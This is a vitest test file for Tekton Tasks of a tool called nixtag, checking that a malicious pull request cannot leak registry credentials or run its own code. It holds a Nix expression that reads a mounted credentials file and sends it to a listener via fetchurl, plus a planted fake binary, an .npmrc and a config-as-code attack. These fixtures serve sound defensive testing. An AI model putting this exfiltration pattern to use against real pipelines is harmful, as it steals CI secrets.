import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { nixtagCli } from '../helpers/cli.js';
import { deployment, plainImage } from '../helpers/expressions.js';
import { ciFlakeEval, flakeDrv, hashOf } from '../helpers/flakes.js';
import { listener } from '../helpers/listener.js';
import { nixVariants } from '../helpers/nix.js';
import { pushedProject, startRegistry, type TestRegistry } from '../helpers/registry.js';
import { gitRepo, n2k8sTag, tempDir, testEnv, writeFiles } from '../helpers/repo.js';
import { buildStepImage, integrityOf, loadTask, mountsOf, runTask, TEKTON, type Task } from '../helpers/tekton.js';

const task = loadTask('nixtag-check.yaml');
const hashTask = loadTask('nixtag-hash.yaml');
const user = 'tekton';
const password = 'tekton-secret-pw';
let scratch: string;
let registry: TestRegistry;
/** The step image's nixtag: this package, installed by the Containerfile's own instructions. */
let imageBin: string;

/** This package, packed once for the e2e tests: what the step image installs. */
const tarball = inject('nixtagTarball').file;

beforeAll(async () => {
  scratch = mkdtempSync(path.join(tmpdir(), 'nixtag-tekton-'));
  registry = await startRegistry(path.join(scratch, 'registry'), { kind: 'htpasswd', user, password });
  imageBin = buildStepImage(path.join(scratch, 'image'), {
    NIXTAG_PACKAGE: tarball,
    NIXTAG_INTEGRITY: integrityOf(tarball),
  }).bin;
});
afterAll(async () => {
  await registry?.stop();
  rmSync(scratch, { recursive: true, force: true });
});

const step = (of: Task, name: string) => of.spec.steps.find((each) => each.name === name)!;

/** The check Task, run as Tekton runs it, with the step image's nixtag. */
function runCheckTask(
  params: Record<string, string>,
  workspaces: { source: string; dockerconfig?: string },
  options: { imageBin?: string | undefined; env?: Record<string, string> } = {},
) {
  return runTask(task, params, {
    workspaces,
    imageBin: 'imageBin' in options ? options.imageBin : imageBin,
    env: options.env,
  });
}

let projects = 0;

/** A repository whose one image is pushed, and a dockerconfig workspace with the registry's credentials. */
async function project() {
  const repository = `${registry.host}/tekton${++projects}/app`;
  const pushed = await pushedProject(repository, { user, password }, 'k8s/deployment.yaml');
  const dockerconfig = tempDir('nixtag-dockerconfig-');
  const auth = Buffer.from(`${user}:${password}`).toString('base64');
  writeFiles(dockerconfig, { 'config.json': JSON.stringify({ auths: { [registry.host]: { auth } } }) });
  return { ...pushed, dockerconfig };
}

describe('the shipped Tekton Tasks', () => {
  it('are Tasks whose parameters are documented and whose step images are pinned by digest', () => {
    expect(task).toMatchObject({ apiVersion: 'tekton.dev/v1', kind: 'Task', metadata: { name: 'nixtag-check' } });
    expect(hashTask).toMatchObject({ apiVersion: 'tekton.dev/v1', kind: 'Task', metadata: { name: 'nixtag-hash' } });
    for (const each of [task, hashTask]) {
      for (const param of each.spec.params) expect(param.description?.length, param.name).toBeGreaterThan(20);
      const image = each.spec.params.find((param) => param.name === 'image')!;
      expect(image.default).toMatch(/^[^:@]+(?::[^@]+)?@sha256:[0-9a-f]{64}$/);
      expect(image.default).not.toMatch(/:latest\b/);
      for (const each_ of each.spec.steps) expect(each_.image).toBe('$(params.image)');
      // nixtag comes from the step image, never fetched into (or found in) the workspace.
      for (const each_ of each.spec.steps) expect(each_.script).not.toMatch(/\bnpx\b|\bnpm\b|node_modules/);
    }
    expect(task.spec.params.find((param) => param.name === 'digest')?.default).toBeUndefined(); // required
    expect(task.spec.steps.map((each) => each.name)).toEqual(['evaluate', 'registry']);
    expect(step(task, 'registry').script).toContain('check --registry --from');
    expect(step(task, 'evaluate').script).toContain('check --ci --findings');
    expect(task.spec.workspaces!.map((workspace) => workspace.name)).toEqual(['source', 'dockerconfig']);
    expect(hashTask.spec.results!.map((result) => result.name)).toEqual(['tag']);
    expect(hashTask.spec.steps[0]!.script).toContain('hash --ci');
    const packaged = JSON.parse(readFileSync(path.join(TEKTON, '../package.json'), 'utf8')) as { files: string[] };
    expect(packaged.files).toContain('tekton');
  });

  it('mount the credentials only in the step that runs no repository code, and the repository only where it is evaluated', () => {
    const evaluate = step(task, 'evaluate');
    const registryStep = step(task, 'registry');
    expect(mountsOf(task, evaluate).workspaces).toEqual(['source']);
    expect(mountsOf(task, registryStep).workspaces).toEqual(['dockerconfig']);
    expect(task.spec.workspaces!.find((workspace) => workspace.name === 'dockerconfig')).toMatchObject({
      optional: true,
      readOnly: true,
    });
    // The evaluating step names no credentials; the registry step no repository, and only reads the findings.
    expect(JSON.stringify(evaluate)).not.toMatch(/dockerconfig|DOCKER_CONFIG=|REGISTRY_AUTH_FILE=/);
    expect(JSON.stringify(registryStep)).not.toMatch(/workspaces\.source|--ci|--config/);
    expect(registryStep.volumeMounts).toEqual([expect.objectContaining({ name: 'nixtag-findings', readOnly: true })]);
    expect(evaluate.script).toContain('unset DOCKER_CONFIG REGISTRY_AUTH_FILE');
    // The hash Task holds no credentials at all.
    expect(hashTask.spec.workspaces!.map((workspace) => workspace.name)).toEqual(['source']);
  });

  it('passes the pushed image with the digest the build exported, credentials from the dockerconfig workspace', async () => {
    const { repo, digest, dockerconfig } = await project();
    const result = await runCheckTask({ digest }, { source: repo.dir, dockerconfig });
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    expect(result.steps.map((each) => each.name)).toEqual(['evaluate', 'registry']);
    expect(result.stdout).toContain('nixtag: registry: 1 reference present, with the expected digest.');
    const withArgs = await runCheckTask(
      { digest: `app=${digest}`, 'registry-args': '--json' },
      { source: repo.dir, dockerconfig },
    );
    expect(withArgs.code).toBe(0);
    expect(JSON.parse(withArgs.steps[1]!.stdout)).toMatchObject({ ok: true, references: [{ digest }] });
    // CI mode keeps nothing in the workspace: no state directory of its own is left behind.
    expect(spawnSync('sh', ['-c', 'ls -d .git/nixtag-ci-* 2>/dev/null'], { cwd: repo.dir }).stdout.toString()).toBe('');
  });

  it('fails another digest and a tag that was never pushed, where the seed step passes the latter', async () => {
    const { repo, repository, tag, digest, dockerconfig } = await project();
    const other = `sha256:${'e'.repeat(64)}`;
    const mismatch = await runCheckTask({ digest: other }, { source: repo.dir, dockerconfig });
    expect(mismatch.code).toBe(1);
    expect(mismatch.stdout).toContain(
      `k8s/deployment.yaml:10:18: ${repository}:${tag} has digest ${digest} in the registry`,
    );

    repo.write({ 'k8s/deployment.yaml': deployment(`${repository}-unpushed:${tag}`) });
    repo.write({ '.nixtagrc.yaml': `images:\n  - name: app\n    repository: ${repository}-unpushed\n` });
    repo.commit('an image that was never pushed');
    const missing = await runCheckTask({ digest }, { source: repo.dir, dockerconfig });
    expect(missing.code).toBe(1);
    expect(missing.stdout).toContain(`is not in registry ${registry.host}`);

    const auth = `${user}:${password}`;
    const seed = `skopeo inspect --tls-verify=false --creds ${auth} docker://${repository}-unpushed:${tag} | jq -e '.Digest == "${digest}"'`;
    expect(spawnSync('sh', ['-c', seed], { env: testEnv() }).status).toBe(0);
  });

  it('refuses an empty digest (exit 2) and exits 3 without the credentials', async () => {
    const { repo, digest, dockerconfig } = await project();
    const empty = await runCheckTask({ digest: ' ' }, { source: repo.dir, dockerconfig });
    expect(empty.code).toBe(2);
    expect(empty.stderr).toContain('the digest param is empty');
    const anonymous = await runCheckTask({ digest }, { source: repo.dir });
    expect(anonymous.code).toBe(3);
    expect(anonymous.stdout).toContain('no credentials for it were found');
    expect(anonymous.stdout + anonymous.stderr).not.toContain(password);
  });

  it('fails in the evaluating step on a stale tag, before any registry is asked', async () => {
    const { repo, repository, digest, dockerconfig } = await project();
    repo.write({ 'k8s/deployment.yaml': deployment(`${repository}:${'0'.repeat(31)}a`) });
    repo.commit('stale');
    const stale = await runCheckTask({ digest }, { source: repo.dir, dockerconfig });
    expect(stale.code).toBe(1);
    expect(stale.steps.map((each) => [each.name, each.code])).toEqual([['evaluate', 1]]);
  });
});

/**
 * A pull request's expression that reads the mounted credentials file and sends it, URL-encoded,
 * to a listener on 127.0.0.1.
 */
const exfiltrating = (secretFile: string, port: number) => `{ system ? builtins.currentSystem }:
let
  secret = builtins.readFile ${secretFile};
  encode = builtins.replaceStrings [ "{" "}" "\\"" ":" "," " " "\\n" ] [ "%7B" "%7D" "%22" "%3A" "%2C" "%20" "%0A" ];
  sent = builtins.fetchurl "http://127.0.0.1:${port}/leak?c=\${encode secret}";
in derivation { name = "app"; inherit system; builder = "/bin/sh"; args = [ "-c" "echo > $out" ]; leak = sent; }
`;

describe.each(nixVariants())('a pull request against the Task ($name)', ({ env }) => {
  it('cannot send the mounted credentials anywhere, even with its configuration saying restrictEval: false', async () => {
    const { repo, repository, digest, dockerconfig } = await project();
    const { port, requests } = await listener();
    const credentials = path.join(dockerconfig, 'config.json');
    repo.write({ 'default.nix': exfiltrating(credentials, port) });
    repo.commit('a pull request');
    const run = await runCheckTask({ digest }, { source: repo.dir, dockerconfig }, { env });
    expect(run.code, run.stderr).toBe(3);
    expect(run.stderr).toContain('NIX_RESTRICTED');
    expect(run.steps.map((each) => each.name)).toEqual(['evaluate']);
    expect(requests).toEqual([]);

    // The repository's configuration cannot turn confinement off, nor allow the listener.
    repo.write({
      '.nixtagrc.yaml': `images:\n  - name: app\n    repository: ${repository}\nallowImportFromDerivation: true\nevaluation:\n  restrictEval: false\n  allowedUris: ["http://127.0.0.1:${port}/"]\n`,
    });
    repo.commit('a pull request that turns confinement off');
    const loosened = await runCheckTask({ digest }, { source: repo.dir, dockerconfig }, { env });
    expect(loosened.code, loosened.stderr).toBe(3);
    expect(loosened.stderr).toContain('NIX_RESTRICTED');
    expect(loosened.stderr).toContain('--ci or --restrict-eval');
    expect(requests).toEqual([]);
    expect(loosened.stdout + loosened.stderr).not.toContain(Buffer.from(`${user}:${password}`).toString('base64'));
    // Through a symlink committed in the repository, the same.
    repo.write({ 'default.nix': exfiltrating('./creds', port) });
    repo.git('rm', '--quiet', '--cached', '--ignore-unmatch', 'creds');
    spawnSync('ln', ['-s', credentials, path.join(repo.dir, 'creds')]);
    repo.commit('a symlink to the credentials');
    const linked = await runCheckTask({ digest }, { source: repo.dir, dockerconfig }, { env });
    expect(linked.code, linked.stderr).toBe(3);
    expect(requests).toEqual([]);
  });
});

describe('a pull request against the Task', () => {
  it('cannot make the Task run its own nixtag: a committed node_modules/nixtag and .npmrc are never executed', async () => {
    const { repo, digest, dockerconfig } = await project();
    const { port, requests } = await listener();
    const marker = path.join(tempDir('marker-'), 'ran');
    const fake = `#!/bin/sh\necho ran > ${marker}\nexit 0\n`;
    repo.write({
      'node_modules/nixtag/package.json': JSON.stringify({
        name: 'nixtag',
        version: '0.1.0',
        bin: { nixtag: 'bin.sh' },
      }),
      'node_modules/nixtag/bin.sh': fake,
      'node_modules/.bin/nixtag': fake,
      '.npmrc': `registry=http://127.0.0.1:${port}/\n`,
      'package.json': JSON.stringify({ name: 'pr', devDependencies: { nixtag: '0.1.0' } }),
    });
    spawnSync('chmod', [
      '+x',
      path.join(repo.dir, 'node_modules/.bin/nixtag'),
      path.join(repo.dir, 'node_modules/nixtag/bin.sh'),
    ]);
    repo.commit('a pull request that brings its own nixtag');

    // The step image's nixtag judges the repository: the pushed image passes, and nothing of the PR's ran.
    const run = await runCheckTask({ digest }, { source: repo.dir, dockerconfig });
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toContain('nixtag: registry: 1 reference present, with the expected digest.');
    expect(existsSync(marker)).toBe(false);
    // An image without nixtag fails (exit 3) instead of fetching one, here or from the PR's registry.
    const without = await runCheckTask({ digest }, { source: repo.dir, dockerconfig }, { imageBin: undefined });
    expect(without.code).toBe(3);
    expect(without.stderr).toContain('the step image has no nixtag');
    expect(existsSync(marker)).toBe(false);
    expect(requests).toEqual([]);
  });

  it('cannot run a nixtag.config.js: CI mode refuses it (exit 2) before it runs', async () => {
    const { repo, repository, digest, dockerconfig } = await project();
    const marker = path.join(tempDir('marker-'), 'ran');
    repo.git('rm', '--quiet', '.nixtagrc.yaml');
    repo.write({
      'nixtag.config.js': `require('node:fs').writeFileSync(${JSON.stringify(marker)}, 'ran');\nmodule.exports = { images: [{ name: 'app', repository: '${repository}' }] };\n`,
    });
    repo.commit('a configuration that is code');
    const run = await runCheckTask({ digest }, { source: repo.dir, dockerconfig });
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('CONFIG_IS_CODE');
    expect(run.stderr).toContain('nixtag.config.js');
    expect(existsSync(marker)).toBe(false);
  });
});

describe('the step image', () => {
  it('installs the nixtag release it pins, by its integrity, and nothing else', () => {
    const version = (JSON.parse(readFileSync(path.join(TEKTON, '../package.json'), 'utf8')) as { version: string })
      .version;
    const built = buildStepImage(tempDir('image-'), {
      NIXTAG_PACKAGE: tarball,
      NIXTAG_INTEGRITY: integrityOf(tarball),
    });
    expect(built.defaults.NIXTAG_PACKAGE).toBe(`nixtag@${version}`);
    expect(built.defaults.BASE).toMatch(/^[^:@]+:22[^@]*@sha256:[0-9a-f]{64}$/);
    expect(built.path).toBe('/opt/nixtag/bin');
    const run = spawnSync(path.join(built.bin, 'nixtag'), ['--version'], { env: testEnv(), encoding: 'utf8' });
    expect(run.stdout).toContain(`nixtag/${version} `);

    // Another package than the pinned one, or no integrity at all: the build fails, nothing is installed.
    const other = `sha512-${Buffer.alloc(64, 1).toString('base64')}`;
    for (const buildArgs of [
      { NIXTAG_PACKAGE: tarball, NIXTAG_INTEGRITY: other },
      { NIXTAG_PACKAGE: tarball },
    ] as Array<Record<string, string>>) {
      const root = tempDir('image-');
      expect(() => buildStepImage(root, buildArgs)).toThrow();
      expect(existsSync(path.join(root, 'opt/nixtag'))).toBe(false);
    }
    const refused = spawnSync(
      'sh',
      [path.join(TEKTON, 'image/install-nixtag.sh'), tarball, other, path.join(tempDir('prefix-'), 'nixtag')],
      { env: testEnv(), encoding: 'utf8' },
    );
    expect(refused.status).toBe(2);
    expect(refused.stderr).toContain(`is not the pinned nixtag: its integrity is ${integrityOf(tarball)}`);
  });
});

describe('the hash Task', () => {
  it('gives the tag n2k8s computes as its result, and evaluates confined', async () => {
    const repository = 'registry.example/app';
    const repo = gitRepo({
      'default.nix': plainImage,
      '.nixtagrc.yaml': `images:\n  - name: app\n    repository: ${repository}\n`,
    });
    const run = await runTask(hashTask, { 'image-name': 'app' }, { workspaces: { source: repo.dir }, imageBin });
    expect(run.code, run.stderr).toBe(0);
    expect(run.results.tag).toBe(n2k8sTag(repo.dir));
    expect(run.results.tag).toBe(nixtagCli(repo.dir, ['hash', '--image', 'app']).stdout.trim());
    expect(run.stdout).toContain(`nixtag-hash: ${run.results.tag}`);

    const { port, requests } = await listener();
    const secret = path.join(tempDir('secret-'), 'token');
    writeFiles(path.dirname(secret), { token: 'hunter2' });
    repo.write({ 'default.nix': exfiltrating(secret, port) });
    repo.commit('a pull request');
    const refused = await runTask(hashTask, {}, { workspaces: { source: repo.dir }, imageBin });
    expect(refused.code).toBe(3);
    expect(refused.stderr).toContain('NIX_RESTRICTED');
    expect(refused.results.tag).toBeUndefined();
    expect(requests).toEqual([]);
  });

  it('gives a flake image the tag `nix eval --raw .#image.outPath` prints in a fresh clone', async () => {
    const repo = gitRepo({
      'flake.nix': `{ outputs = { self }: { packages.x86_64-linux.web = ${flakeDrv('docker-image-web.tar.gz')}; }; }\n`,
      '.nixtagrc.yaml': 'images:\n  - name: web\n    flake: .#web\n    repository: registry.example/web\n',
    });
    const run = await runTask(hashTask, { 'image-name': 'web' }, { workspaces: { source: repo.dir }, imageBin });
    expect(run.code, run.stderr).toBe(0);
    expect(run.results.tag).toBe(hashOf(ciFlakeEval(repo, '.#web')));
  });
});
